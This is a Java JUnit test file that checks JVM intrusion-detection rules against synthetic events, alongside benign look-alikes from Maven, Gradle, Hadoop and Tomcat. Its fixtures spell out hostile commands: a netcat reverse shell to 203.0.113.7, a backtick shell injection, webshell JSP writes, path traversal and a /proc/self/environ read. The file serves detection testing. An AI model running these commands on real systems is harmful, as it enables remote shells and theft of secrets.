package dev.peregrine.cli.demo;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.peregrine.cli.Cli;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Set;
import java.util.TreeSet;

import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Each default JVM rule (jvm_rules.yaml) on one agent event replayed through the default rules: what must raise it,
 * and the look-alikes its exceptions exist for, which must raise nothing at Warning or above. The demo app and
 * DemoAppIT show the same rules on real events; these cover the cases the demo does not stage.
 */
class JvmRulesTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Set<String> LOUD = Set.of("Emergency", "Alert", "Critical", "Error", "Warning");
    private static final String HANDLER = "\"jvm.caller\":\"com.shop.Api.handle(Api.java:10)\",\"jvm.main\":\"com.shop.Main\"";

    @TempDir
    Path dir;

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '#', textBlock = """
            recon tool # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"/usr/bin/id","jvm.exec.argv":["/usr/bin/id"],"jvm.exec.cmdline":"/usr/bin/id",HANDLER} # Recon command run by JVM
            recon tool by Maven # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"uname","jvm.exec.argv":["uname","-a"],"jvm.exec.cmdline":"uname -a","jvm.main":"org.codehaus.plexus.classworlds.launcher.Launcher"} #
            injected shell # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"sh","jvm.exec.argv":["sh","-c","ping -c1 x`id`"],"jvm.exec.cmdline":"sh -c ping -c1 x`id`",HANDLER} # Shell command with injection metacharacters run by JVM
            fixed helper shell # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"/bin/sh","jvm.exec.argv":["/bin/sh","-c","convert $IN out.png"],"jvm.exec.cmdline":"/bin/sh -c convert $IN out.png",HANDLER} #
            shell pipe by Gradle # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"bash","jvm.exec.argv":["bash","-c","git log | head"],"jvm.exec.cmdline":"bash -c git log | head","jvm.main":"org.gradle.launcher.daemon.bootstrap.GradleDaemon"} #
            Hadoop group lookup # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"bash","jvm.exec.argv":["bash","-c","id -gn hdfs; id -Gn hdfs"],"jvm.exec.cmdline":"bash -c id -gn hdfs; id -Gn hdfs","jvm.caller":"org.apache.hadoop.util.Shell.runCommand(Shell.java:1009)","jvm.main":"org.apache.hadoop.hdfs.server.namenode.NameNode"} #
            netcat reverse shell # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"/usr/bin/nc","jvm.exec.argv":["/usr/bin/nc","-e","/bin/sh","203.0.113.7","4444"],"jvm.exec.cmdline":"/usr/bin/nc -e /bin/sh 203.0.113.7 4444",HANDLER} # Reverse shell started by JVM
            SnakeYAML gadget # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"touch","jvm.exec.argv":["touch","/tmp/x"],"jvm.exec.cmdline":"touch /tmp/x","jvm.stack":["java.lang.ProcessImpl.start(ProcessImpl.java:154)","javax.script.ScriptEngineManager.<init>(ScriptEngineManager.java:70)","org.yaml.snakeyaml.constructor.BaseConstructor.constructObject(BaseConstructor.java:230)"],HANDLER} # Process started by gadget chain in JVM
            SpEL gadget # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"touch","jvm.exec.argv":["touch","/tmp/x"],"jvm.exec.cmdline":"touch /tmp/x","jvm.stack":["java.lang.ProcessImpl.start(ProcessImpl.java:154)","org.springframework.expression.spel.ast.MethodReference.getValueInternal(MethodReference.java:135)"],HANDLER} # Process started by gadget chain in JVM
            plain process start # {"evt.type":"process_start","jvm.op":"process_start","jvm.exec.exe":"touch","jvm.exec.argv":["touch","/tmp/x"],"jvm.exec.cmdline":"touch /tmp/x","jvm.stack":["java.lang.ProcessImpl.start(ProcessImpl.java:154)","com.shop.Api.handle(Api.java:10)"],HANDLER} #
            jsp written # {"evt.type":"file_open","jvm.op":"file_open","jvm.file.path":"/opt/tomcat/webapps/ROOT/cmd.jsp","jvm.file.write":true,HANDLER} # Webshell written by JVM
            class into WEB-INF # {"evt.type":"file_open","jvm.op":"file_open","jvm.file.path":"/opt/tomcat/webapps/ROOT/WEB-INF/classes/A.class","jvm.file.write":true,HANDLER} # Webshell written by JVM
            Tomcat unpacking a war # {"evt.type":"file_open","jvm.op":"file_open","jvm.file.path":"/opt/tomcat/webapps/shop/index.jsp","jvm.file.write":true,"jvm.stack":["sun.nio.fs.UnixNativeDispatcher.open(UnixNativeDispatcher.java:68)","org.apache.catalina.startup.ExpandWar.expand(ExpandWar.java:166)"],HANDLER} #
            text upload # {"evt.type":"file_open","jvm.op":"file_open","jvm.file.path":"/opt/tomcat/webapps/ROOT/uploads/notes.txt","jvm.file.write":true,HANDLER} #
            traversal to /etc # {"evt.type":"file_open","jvm.op":"file_open","jvm.file.path":"/srv/www/static/../../../etc/hosts","jvm.file.write":false,HANDLER} # Path traversal read by JVM
            dot-dot inside the app # {"evt.type":"file_open","jvm.op":"file_open","jvm.file.path":"/opt/app/bin/../lib/app.jar","jvm.file.write":false,HANDLER} #
            process environment read # {"evt.type":"file_open","jvm.op":"file_open","jvm.file.path":"/proc/self/environ","jvm.file.write":false,HANDLER} # Sensitive file read by JVM
            library from /dev/shm # {"evt.type":"native_load","jvm.op":"native_load","jvm.lib.path":"/dev/shm/.x/libx.so",HANDLER} # Native library loaded from writable directory
            Netty extracting its library # {"evt.type":"native_load","jvm.op":"native_load","jvm.lib.path":"/tmp/libnetty_transport_native_epoll_x86_6412345.so","jvm.caller":"io.netty.util.internal.NativeLibraryUtil.loadLibrary(NativeLibraryUtil.java:36)","jvm.main":"com.shop.Main"} #
            libc bound through FFM # {"evt.type":"native_load","jvm.op":"native_load","jvm.lib.path":"/lib/x86_64-linux-gnu/libc.so.6","jvm.stack.head":"java.lang.foreign.SymbolLookup.libraryLookup(SymbolLookup.java:296)",HANDLER} # C library bound through FFM by JVM
            zlib bound through FFM # {"evt.type":"native_load","jvm.op":"native_load","jvm.lib.path":"libz.so.1","jvm.stack.head":"java.lang.foreign.SymbolLookup.libraryLookup(SymbolLookup.java:296)",HANDLER} #
            local JNDI name # {"evt.type":"jndi_lookup","jvm.op":"jndi_lookup","jvm.jndi.name":"java:comp/env/jdbc/shop",HANDLER} #
            """)
    void loudRulesOfOneEvent(String name, String event, String expected) throws Exception {
        Path events = dir.resolve("events.jsonl");
        String json = event.replace("HANDLER", HANDLER);
        Files.writeString(events, json.replace("{\"evt.type\"", "{\"evt.source\":\"jvm\",\"evt.type\"") + "\n");
        Cli.Result r = Cli.run("replay", "--events", events.toString(), "--json");
        assertEquals(0, r.exit(), r::toString);
        Set<String> loud = new TreeSet<>();
        for (String line : r.out().lines().toList()) {
            JsonNode alert = JSON.readTree(line);
            if (LOUD.contains(alert.get("priority").asText())) {
                loud.add(alert.get("rule").asText());
            }
        }
        assertEquals(expected == null ? Set.of() : Set.of(expected), loud, name + "\n" + r);
    }
}
